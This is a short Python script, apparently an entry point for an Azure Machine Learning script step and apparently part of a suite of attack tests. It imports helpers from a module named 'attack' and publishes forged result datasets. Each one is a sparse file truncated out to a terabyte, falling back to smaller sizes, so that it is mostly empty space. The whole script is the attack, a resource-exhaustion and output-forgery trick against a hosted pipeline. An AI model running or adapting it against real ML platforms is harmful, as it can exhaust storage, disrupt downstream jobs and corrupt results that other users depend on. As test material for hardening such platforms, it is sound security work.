"""Swaps a result for a file of a terabyte, most of which is not there."""

from attack import empty_table, publish_forged


def endless(path):
    empty_table(path)
    with open(path, "r+b") as stream:
        for size in (1 << 40, 1 << 30, 60 << 20):
            try:
                stream.truncate(size)
            except OSError:
                continue
            return


def azureml_main(dataframe1=None, dataframe2=None):
    publish_forged(result_dataset=endless, result_dataset2=endless)
